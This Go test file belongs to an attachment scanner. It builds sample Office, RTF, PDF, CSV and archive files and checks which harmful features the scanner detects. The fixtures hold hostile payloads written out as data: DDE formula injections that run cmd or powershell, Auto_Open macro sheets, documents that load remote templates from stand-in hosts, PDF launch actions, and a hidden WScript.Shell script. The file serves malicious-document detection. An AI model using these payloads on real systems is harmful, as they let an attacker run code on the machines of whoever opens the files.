package attachment_test

import (
	"archive/zip"
	"bytes"
	"crypto/aes"
	"crypto/cipher"
	"crypto/sha256"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"unicode/utf16"

	"outrider/internal/attachment"
)

// packageOf returns an Office document of parts, given as names and contents in turn.
func packageOf(tb testing.TB, parts ...string) []byte {
	tb.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for k := 0; k < len(parts); k += 2 {
		w, err := z.Create(parts[k])
		if err != nil {
			tb.Fatal(err)
		}
		if _, err := w.Write([]byte(parts[k+1])); err != nil {
			tb.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		tb.Fatal(err)
	}
	return b.Bytes()
}

// types is the part that declares the kind of a package.
func types(kind string) string {
	return `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/x" ContentType="application/` + kind + `"/></Types>`
}

// relation is a part with one relationship to the outside.
func relation(kind, target string) string {
	return `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + kind + `" Target="` + target + `" TargetMode="External"/></Relationships>`
}

const (
	wordKind   = "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
	excelKind  = "vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
	binaryKind = "vnd.ms-excel.sheet.binary.macroEnabled.main"
)

// fieldOf is a paragraph with a field whose instruction is cut into two runs.
func fieldOf(code string) string {
	return `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>` + code[:3] + `</w:instrText></w:r><w:r><w:instrText>` + code[3:] +
		`</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`
}

func word(tb testing.TB, body, relations string) []byte {
	tb.Helper()
	return packageOf(tb, "[Content_Types].xml", types(wordKind), "word/document.xml", "<w:document><w:body>"+body+"</w:body></w:document>",
		"word/_rels/settings.xml.rels", relations)
}

func excel(tb testing.TB, workbook, sheet string) []byte {
	tb.Helper()
	return packageOf(tb, "[Content_Types].xml", types(excelKind), "xl/workbook.xml", "<workbook>"+workbook+"</workbook>",
		"xl/worksheets/sheet1.xml", "<worksheet>"+sheet+"</worksheet>")
}

// pdfWith is a document whose catalogue has entries, and with further objects from 4 on.
func pdfWith(catalogue string, objects ...string) []byte {
	s := "%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + catalogue + " >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n" +
		"3 0 obj\n<< /Type /Page /Parent 2 0 R >>\nendobj\n"
	for k, o := range objects {
		s += fmt.Sprintf("%d 0 obj\n%s\nendobj\n", k+4, o)
	}
	return []byte(s + "trailer << /Root 1 0 R >>\n%%EOF\n")
}

// record is one of a binary workbook.
func record(id int, data []byte) string {
	out := []byte{byte(id)}
	if id >= 0x80 {
		out = []byte{byte(id&0x7f | 0x80), byte(id >> 7)}
	}
	return string(append(append(out, byte(len(data)&0x7f|0x80), byte(len(data)>>7)), data...))
}

func wide(s string) []byte {
	b := binary.LittleEndian.AppendUint32(nil, uint32(len(s)))
	for _, u := range utf16.Encode([]rune(s)) {
		b = binary.LittleEndian.AppendUint16(b, u)
	}
	return b
}

// binaryBook is a binary workbook with a hidden macro sheet that starts a program.
func binaryBook(tb testing.TB) []byte {
	tb.Helper()
	sheet := slices.Concat([]byte{2, 0, 0, 0, 1, 0, 0, 0}, wide("rId1"), wide("M"))
	name := slices.Concat(make([]byte, 9), wide("_xlnm.Auto_Open"), []byte{0, 0, 0, 0})
	text := wide("calc.exe")[4:]
	code := slices.Concat([]byte{0x17, 8, 0}, text, []byte{0x22, 1, 110, 0})
	cell := slices.Concat(make([]byte, 8), make([]byte, 8), []byte{0, 0}, binary.LittleEndian.AppendUint32(nil, uint32(len(code))), code)
	return packageOf(tb, "[Content_Types].xml", types(binaryKind), "xl/workbook.bin", record(156, sheet)+record(39, name),
		"xl/_rels/workbook.bin.rels", `<Relationships><Relationship Id="rId1" Type="http://x/xlMacrosheet" Target="macrosheets/sheet1.bin"/></Relationships>`,
		"xl/macrosheets/sheet1.bin", record(0, []byte{0, 0, 0, 0})+record(9, cell), "xl/sharedStrings.bin", record(19, append([]byte{0}, wide("the price")...)))
}

// harms returns the kinds of harms of all files of a report, each once, in alphabetical order.
func harms(r *attachment.Report) string {
	var out []string
	for k := range r.Files {
		for _, h := range r.Files[k].Harms {
			out = append(out, string(h.Kind))
		}
	}
	slices.Sort(out)
	return strings.Join(slices.Compact(out), " ")
}

func TestHarms(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, file string
		data       []byte
		want       string
	}{
		{"a cell that starts a program", "a.csv", []byte("name,sum\n1,\"=cmd|'/c calc'!A0\"\n"), "dde"},
		{"after a sum", "a.csv", []byte("a\t@SUM(1+1)*powershell|' -e x'!A0\n"), "dde"},
		{"after a bar", "a.csv", []byte("x|-2+3+mshta|'http://a.example/x'!z\n"), "dde"},
		{"the function of Calc", "a.csv", []byte("x;=DDE(\"cmd\";\"/c calc\";\"x\")\n"), "dde"},
		{"a sum", "a.csv", []byte("x,=SUM(A1:A2),-5,+4,@home\n"), ""},
		{"a feed of prices", "a.csv", []byte("x,=BLP|M!'IBM US Equity,[LAST PRICE]'\n"), ""},
		{"bars between words", "a.csv", []byte("-a|b!,c|d (e)!,x|y!\n"), ""},
		{"bars after a number", "a.csv", []byte("Ada,-4,\"a|b!c\"\n"), ""},
		{"a program after a number", "a.csv", []byte("Ada,-4,=cmd|'/c calc'!A0\n"), "dde"},
		{"a page that Excel opens", "a.xls", []byte("<html><body><table><tr><td>1<td> =cmd|&#39;/c calc&#39;!A0</td></table>"), "dde"},
		{"a formula of a page that Excel opens", "a.xls", []byte("<html><table><tr><td x:num x:fmla=\"=cmd|'/c calc'!A0\">1</td></table>"), "dde"},
		{"a page that Excel opens and that adds", "a.xls", []byte("<html><table><tr><td x:fmla=\"=SUM(A1:A2)\">-1</td><td>=B1</td><td>a|b!c</td></table>"), ""},
		{"a page about tables", "a.html", []byte("<html><body><p>=cmd|'/c calc'!A0</p></body></html>"), ""},
		{"a table of symbolic links", "a.slk", []byte("ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC(\"calc\")\nE\n"), "auto-sheet"},
		{"such a table that adds", "a.slk", []byte("ID;P\nC;X1;Y1;K3;ESUM(R1C1:R2C1)\nE\n"), ""},
		{"a field of DDE", "a.docx", word(t, fieldOf(`DDEAUTO c:\\windows\\cmd.exe "/c calc"`), ""), "dde"},
		{"a page number", "a.docx", word(t, fieldOf(`PAGE \* MERGEFORMAT`), ""), ""},
		{"text from a host", "a.docx", word(t, fieldOf(`INCLUDETEXT "http://a.example/x.docx"`), ""), "remote-template"},
		{"a template from a host", "a.docx", word(t, "", relation("attachedTemplate", "https://a.example/t.dotm")), "remote-template"},
		{"a template from a share outside", "a.docx", word(t, "", relation("attachedTemplate", `\\a.example@SSL\x\t.dotm`)), "remote-template"},
		{"a template on the disc", "a.docx", word(t, "", relation("attachedTemplate", "file:///C:/Users/kim/Normal.dotm")), ""},
		{"a template of the house", "a.docx", word(t, "", relation("attachedTemplate", `file:///\\fs01\templates\letter.dotx`)), ""},
		{"an object from a host", "a.docx", word(t, "", relation("oleObject", "mhtml:https://a.example/x!x-usc:https://a.example/x")), "remote-object"},
		{"a frame from a host", "a.docx", word(t, "", relation("frame", "http://1.2.3.4/x.rtf")), "remote-template"},
		{"a link", "a.docx", word(t, "", relation("hyperlink", "https://a.example/x")), ""},
		{"a cell of a workbook", "a.xlsx", excel(t, "", "<c><f>cmd|'/c calc'!A1</f></c>"), "dde"},
		{"a workbook that adds", "a.xlsx", excel(t, "", "<c><f>SUM(A1:A2)</f></c>"), ""},
		{"a macro sheet", "a.xlsm", packageOf(t, "[Content_Types].xml", types(excelKind), "xl/workbook.xml",
			`<workbook><sheets><sheet name="M" state="veryHidden" r:id="r1"/></sheets><definedNames><definedName name="_xlnm.Auto_Open">M!$A$1</definedName></definedNames></workbook>`,
			"xl/_rels/workbook.xml.rels", `<Relationships><Relationship Id="r1" Type="http://x/xlMacrosheet" Target="macrosheets/s.xml"/></Relationships>`,
			"xl/macrosheets/s.xml", "<macrosheet><c><f>HALT()</f></c></macrosheet>"), "auto-sheet"},
		{"a binary workbook", "a.xlsb", binaryBook(t), "auto-sheet"},
		{"the XML of Word 2003", "a.xml", []byte(`<?xml version="1.0"?><?mso-application progid="Word.Document"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:body>` +
			fieldOf("DDEAUTO cmd") + `</w:body></w:wordDocument>`), "dde"},
		{"the XML of Excel 2003", "a.xml", []byte(`<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet" xmlns:ss="urn:schemas-microsoft-com:office:spreadsheet">` +
			`<Worksheet ss:Name="S"><Table><Row><Cell ss:Formula="=cmd|'/c calc'!A1"><Data>1</Data></Cell></Row></Table></Worksheet></Workbook>`), "dde"},
		{"a package in one file", "a.xml", []byte(`<?xml version="1.0"?><pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage">` +
			`<pkg:part pkg:name="/[Content_Types].xml"><pkg:xmlData>` + types(wordKind) + `</pkg:xmlData></pkg:part>` +
			`<pkg:part pkg:name="/word/_rels/settings.xml.rels"><pkg:xmlData>` + relation("attachedTemplate", "http://a.example/t") + `</pkg:xmlData></pkg:part></pkg:package>`), "remote-template"},
		{"an OpenDocument with a macro", "a.odt", packageOf(t, "mimetype", "application/vnd.oasis.opendocument.text", "content.xml",
			`<office:document-content><office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:L.M.Main"/></office:event-listeners></office:scripts></office:document-content>`,
			"Basic/L/M.xml", `<script:module script:name="M">Sub Main: Shell("calc"): End Sub</script:module>`), "auto-macro macro"},
		{"an OpenDocument", "a.odt", packageOf(t, "mimetype", "application/vnd.oasis.opendocument.text", "content.xml",
			`<office:document-content><office:body><text:a xlink:href="https://a.example/">x</text:a></office:body></office:document-content>`), ""},
		{"a table of OpenDocument that starts a program", "a.ods", packageOf(t, "mimetype", "application/vnd.oasis.opendocument.spreadsheet", "content.xml",
			`<office:document-content><office:body><table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;/c calc&quot;;&quot;x&quot;)"/></office:body></office:document-content>`), "dde"},
		{"a table of OpenDocument that adds", "a.ods", packageOf(t, "mimetype", "application/vnd.oasis.opendocument.spreadsheet", "content.xml",
			`<office:document-content><office:body><table:table-cell table:formula="of:=SUM([.A1:.A3])"/></office:body></office:document-content>`), ""},
		{"an equation that loads by itself", "a.rtf", []byte(`{\rtf1{\object\objemb\objupdate{\*\objclass Equation.3}{\*\objdata 01050000020000000b0000004571756174696f6e2e3300000000000000000004000000aabbccdd}}}`), "equation"},
		{"an object of another program", "a.rtf", []byte(`{\rtf1{\object\objemb{\*\objclass Paint}{\*\objdata 0105000002000000060000005061696e740000000000000000000004000000aabbccdd}}}`), ""},
		{"a template of RTF", "a.rtf", []byte(`{\rtf1{\*\template http://a.example/x.dotm}x}`), "remote-template"},
		{"a field of RTF", "a.rtf", []byte(`{\rtf1{\field{\*\fldinst DDEAUTO cmd "/c calc"}{\fldrslt x}}}`), "dde"},
		{"a link of RTF", "a.rtf", []byte(`{\rtf1{\field{\*\fldinst HYPERLINK "http://a.example/"}{\fldrslt x}}}`), ""},
		{"a damaged archive of another name", "a.rar", []byte("\x00\x01\x02\x03 damaged"), "unopened"},
		{"data that nobody knows", "a.dat", []byte("\x00\x01\x02\x03 damaged"), ""},
		{"a PDF that launches", "a.pdf", pdfWith("/OpenAction 4 0 R", "<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>"), "launch"},
		{"a PDF that runs a script", "a.pdf", pdfWith("/OpenAction 4 0 R", "<< /S /JavaScript /JS (app.launchURL\\(\"http://a.example\"\\)) >>"), "open-script"},
		{"a PDF that sends a form", "a.pdf", pdfWith("", "<< /S /SubmitForm /F << /FS /URL /F (https://a.example/post) >> >>"), "submit-form"},
		{"a PDF that sends a form when it opens", "a.pdf", pdfWith("/OpenAction 4 0 R", "<< /S /SubmitForm /F << /FS /URL /F (https://a.example/post) >> >>"), "open-submit"},
		{"a PDF that goes elsewhere", "a.pdf", pdfWith("", `<< /S /GoToR /F (\\\\a.example\\x\\y.pdf) >>`), "launch"},
		{"a PDF that prints", "a.pdf", pdfWith("/OpenAction 4 0 R", "<< /S /JavaScript /JS (this.print\\(true\\)) >>"), ""},
		{"a PDF with chapters", "a.pdf", pdfWith("/OpenAction 4 0 R", "<< /S /GoTo /D [3 0 R /Fit] >>", "<< /S /GoToR /F (chapter2.pdf) >>"), ""},
		{"a PDF with a program", "a.pdf", pdfWith("", "<< /Type /Filespec /F (run.js) /EF << /F 5 0 R >> >>", "<< /Type /EmbeddedFile /Length 1 >>\nstream\nx\nendstream"), "program"},
		{"an archive of ACE", "a.ace", []byte("0123456**ACE**0123456789"), "unopened"},
		{"a damaged archive", "a.7z", []byte("7z\xbc\xaf\x27\x1c\x00\x04" + strings.Repeat("x", 60)), "unopened"},
		{"a locked archive", "a.zip", lockedZip(1), "locked"},
		{"an archive", "a.zip", zipOf(t, "a.txt", "hello"), ""},
	} {
		r := inspect(tt.file, tt.data)
		if got := harms(r); got != tt.want {
			t.Errorf("%s: %q, want %q (%s, notes %v)", tt.name, got, tt.want, r.Files[0].Format, r.Notes)
		}
	}
}

// TestHarmsOfRealDocuments looks at documents of a corpus of readers, most of which are honest.
func TestHarmsOfRealDocuments(t *testing.T) {
	t.Parallel()
	want := map[string]string{
		"protectedFile.xlsx": "known-password", "testEXCEL_macro.xlsm": "macro", "testWORD_macros.doc": "macro", "testODTMacro.odt": "macro", "testODTMacro.fodt": "macro",
		"testEXCEL_protected_passtika.xls": "locked", "testWORD.docx": "", "testEXCEL.xlsx": "", "testPPT.pptx": "", "testODFwithOOo3.odt": "", "testEXCEL_5.xls": "", "testRTF.rtf": "", "testPDF.pdf": "",
	}
	seen := 0
	for _, path := range corpus(t, "att_tika_archives_office") {
		expected, ok := want[filepath.Base(path)]
		if !ok {
			continue
		}
		data, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		seen++
		if got := harms(inspect(path, data)); got != expected {
			t.Errorf("%s: %q, want %q", filepath.Base(path), got, expected)
		}
	}
	if seen < 5 {
		t.Errorf("only %d documents", seen)
	}
}

func TestTextsAndLinksOfDocuments(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, file string
		data       []byte
		text, link string
	}{
		{"a binary workbook", "a.xlsb", binaryBook(t), "the price", ""},
		{"an OpenDocument", "a.odt", packageOf(t, "mimetype", "application/vnd.oasis.opendocument.text", "content.xml",
			`<office:document-content><office:body><text:p>Sign in <text:a xlink:href="https://a.example/x">here</text:a></text:p></office:body></office:document-content>`), "Sign in here", "https://a.example/x"},
		{"an OpenDocument in one file", "a.fodt", []byte(`<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"><office:body><text:p>Call us</text:p><text:a xlink:href="http://a.example/">x</text:a></office:body></office:document>`), "Call us", "http://a.example/"},
		{"a page of XPS", "a.xps", packageOf(t, "[Content_Types].xml", types("x"), "Documents/1/Pages/1.fpage", `<FixedPage><Glyphs UnicodeString="Pay now" FixedPage.NavigateUri="http://a.example/pay"/></FixedPage>`), "Pay now", "http://a.example/pay"},
		{"the XML of Word 2003", "a.doc", []byte(`<?xml version="1.0"?><w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml"><w:p><w:hlink w:dest="http://a.example/w"><w:t>Open</w:t></w:hlink></w:p></w:wordDocument>`), "Open", "http://a.example/w"},
		{"the XML of Excel 2003", "a.xls", []byte(`<?xml version="1.0"?><Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Cell ss:HRef="http://a.example/e"><Data>Open</Data></Cell></Workbook>`), "Open", "http://a.example/e"},
		{"an address in pieces", "a.csv", []byte("a,\"=HYPERLINK(\"\"http://a.exam\"\" & \"\"ple/p\"\",\"\"x & y\"\")\"\n"), "", "http://a.example/p"},
		{"an address in pieces of a workbook", "a.xlsx", excel(t, "", `<c><f>HYPERLINK("http://a."&amp;"example/"&amp;"p","x")</f></c>`), "", "http://a.example/p"},
		{"a page that Excel opens", "a.xls", []byte(`<html><table><tr><td>=HYPERLINK("http://a.example/h","x")</table>`), "", "http://a.example/h"},
		{"a PDF that launches an address", "a.pdf", pdfWith("", "<< /S /Launch /F << /FS /URL /F (http://a.example/l) >> >>"), "", "http://a.example/l"},
		{"a script of a PDF", "a.pdf", pdfWith("", `<< /S /JavaScript /JS (app.launchURL\("http://a.example/s"\)) >>`), "", "http://a.example/s"},
		{"a formula of a table", "a.csv", []byte("a,\"=HYPERLINK(\"\"http://a.example/c\"\",\"\"x\"\")\"\n"), "", "http://a.example/c"},
	} {
		d := inspect(tt.file, tt.data).Files[0].Document
		if d == nil || !strings.Contains(d.Text, tt.text) || tt.link != "" && !slices.Contains(d.URLs, tt.link) {
			t.Errorf("%s: %+v", tt.name, d)
		}
	}
}

func TestBothNamesOfAnEntry(t *testing.T) {
	t.Parallel()
	two := zipOf(t, "invoice.txt", "var x")
	copy(two[30:], "invoice.js ")
	r := inspect("a.zip", two)
	if got := names(r); harms(r) != "two-names" || !strings.Contains(got, "invoice.js ") || !strings.Contains(got, "invoice.txt") {
		t.Errorf("%q %s", got, harms(r))
	}
	slash := zipOf(t, "a/b.txt", "x")
	copy(slash[30:], `a\b.txt`)
	if got := harms(inspect("a.zip", slash)); got != "" {
		t.Errorf("another separator: %s", got)
	}
}

// APPNOTE 4.6.9: the extra field has the name in UTF-8, with the checksum of the name in
// the header.
func TestTheUnicodeNameOfAnEntry(t *testing.T) {
	t.Parallel()
	for _, tt := range []struct {
		name, header, unicode string
		sum                   uint32
		want                  string
	}{
		{"another extension", "plan.txt", "plan.js", 0, "two-names"},
		{"the same name", "pl\x84ne.txt", "pläne.txt", 0, ""},
		{"a checksum of another name", "plan.txt", "plan.js", 1, ""},
	} {
		var b bytes.Buffer
		w := zip.NewWriter(&b)
		extra := binary.LittleEndian.AppendUint32([]byte{0x75, 0x70, byte(5 + len(tt.unicode)), 0, 1}, crc32.ChecksumIEEE([]byte(tt.header))+tt.sum)
		if _, err := w.CreateHeader(&zip.FileHeader{Name: tt.header, NonUTF8: true, Extra: append(extra, tt.unicode...)}); err != nil {
			t.Fatal(err)
		}
		if err := w.Close(); err != nil {
			t.Fatal(err)
		}
		r := inspect("a.zip", b.Bytes())
		if got := harms(r); got != tt.want || tt.want != "" && !strings.Contains(names(r), tt.unicode) {
			t.Errorf("%s: %q, %s", tt.name, got, names(r))
		}
	}
}

// sevenZipStored is an archive of one stored and encrypted file, whose names can be read.
// 7zFormat.txt of 7-Zip; the key of AES takes no rounds, as 0x3f in the property says.
func sevenZipStored(tb testing.TB, password, body string) []byte {
	tb.Helper()
	var key [32]byte
	copy(key[:], utf16le(password))
	c, err := aes.NewCipher(key[:])
	if err != nil {
		tb.Fatal(err)
	}
	packed := make([]byte, (len(body)+15)&^15)
	cipher.NewCBCEncrypter(c, make([]byte, 16)).CryptBlocks(packed, append([]byte(body), make([]byte, len(packed)-len(body))...))
	le := binary.LittleEndian
	crc := le.AppendUint32(nil, crc32.ChecksumIEEE([]byte(body)))
	name := slices.Concat([]byte{0}, []byte(utf16le("run.js\x00")))
	header := slices.Concat(
		[]byte{1, 4, 6, 0, 1, 9, byte(len(packed)), 0},
		[]byte{7, 0x0b, 1, 0, 1, 0x24, 6, 0xf1, 7, 1, 18, 0x7f, 0x0f}, make([]byte, 16), []byte{0x0c, byte(len(body)), 0},
		[]byte{8, 0x0a, 1}, crc, []byte{0, 0},
		[]byte{5, 1, 0x11, byte(len(name))}, name, []byte{0, 0})
	start := le.AppendUint64(nil, uint64(len(packed)))
	start = le.AppendUint64(start, uint64(len(header)))
	start = le.AppendUint32(start, crc32.ChecksumIEEE(header))
	return slices.Concat([]byte("7z\xbc\xaf\x27\x1c\x00\x04"), le.AppendUint32(nil, crc32.ChecksumIEEE(start)), start, packed, header)
}

func TestPasswordOfStored7zIsProved(t *testing.T) {
	t.Parallel()
	body := "var shell = new ActiveXObject('WScript.Shell')"
	data := sevenZipStored(t, "right", body)
	r := inspect("a.7z", data, "wrong", "right")
	if len(r.Files) != 2 || r.Files[0].Password != "right" || r.Files[1].SHA256 != fmt.Sprintf("%x", sha256.Sum256([]byte(body))) {
		t.Errorf("%+v, notes %v", r.Files, r.Notes)
	}
	if got := harms(inspect("a.7z", data, "wrong")); got != "locked" {
		t.Errorf("without the password: %q", got)
	}
}

func TestNamesBeyondTheLimits(t *testing.T) {
	t.Parallel()
	many := func(n int) []byte {
		var parts []string
		for k := range n {
			parts = append(parts, fmt.Sprintf("f%05d.txt", k), "x")
		}
		return packageOf(t, append(parts, "last.js", "var x", "end.txt", "x")...)
	}
	for _, n := range []int{10, 2500, 5100} {
		r := inspect("a.zip", many(n))
		if !strings.Contains(names(r), "last.js") {
			t.Errorf("behind %d files the program is not reported", n)
		}
		if limited := r.Has(attachment.NoteFiles); limited != (n > 2000) {
			t.Errorf("%d files: notes %v", n, r.Notes)
		}
	}
}
